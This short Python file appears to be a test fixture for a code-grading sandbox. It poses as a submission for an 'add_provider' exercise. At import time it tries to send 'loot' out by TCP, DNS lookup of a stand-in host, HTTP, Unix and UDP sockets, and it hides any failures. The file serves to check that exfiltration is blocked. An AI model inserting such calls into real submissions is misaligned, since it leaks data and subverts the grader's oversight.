# attack: sends what it knows to a server, by socket, by name, by URL
# exercise: add_provider
# status: wrong, error
import socket
import urllib.request

for attempt in (
    lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"loot"),
    lambda: socket.getaddrinfo("loot.example.org", 80),
    lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/loot", timeout=2),
    lambda: socket.socket(socket.AF_UNIX).connect("\0@PORT@"),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"loot", ("::1", @PORT@)),
):
    try:
        attempt()
    except Exception:
        pass


def add_provider(conn, slug, name, kind, country=None):
    return None
